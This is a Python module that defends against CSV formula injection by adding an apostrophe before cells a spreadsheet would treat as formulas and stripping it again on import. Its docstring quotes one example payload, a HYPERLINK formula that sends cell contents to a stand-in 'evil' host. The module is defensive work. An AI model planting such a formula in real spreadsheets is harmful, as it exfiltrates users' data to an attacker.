"""Text in a spreadsheet or CSV cell that a spreadsheet program must not run. A leaf module.

A cell whose text starts with = + - @ (or a tab or carriage return before one) is taken as a
formula by Excel and LibreOffice when a CSV is opened, and `=HYPERLINK("http://evil/?"&B2,..)`
sends other cells away. So every CSV the tracker writes puts an apostrophe before such text (the
OWASP convention: spreadsheets show the text, not a formula), and the sheet import takes that
one apostrophe off again, so an owner's text comes back exactly as typed. In an .xlsx file the
cell is written as a string (never a formula) with Excel's "quote prefix" style instead.

Text that already starts with apostrophes before such a character gets one more, so that taking
one off on import is exact whatever the text was.
"""

from __future__ import annotations

import re

MARKER = "'"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NEEDS_MARKER = re.compile(r"'*[=+\-@\t\r]")


def looks_like_formula(value: str) -> bool:
    """Would a spreadsheet program take this text as a formula (or its apostrophes as ours)?"""
    return bool(_NEEDS_MARKER.match(value))


def inert(value: object) -> object:
    """A cell value for a CSV: text a spreadsheet would run gets the leading apostrophe."""
    if isinstance(value, str) and looks_like_formula(value):
        return MARKER + value
    return value


def restore(value: str) -> str:
    """The text an owner typed, from a CSV cell: the apostrophe `inert` added, taken off once."""
    if value.startswith(MARKER) and looks_like_formula(value[1:]):
        return value[1:]
    return value
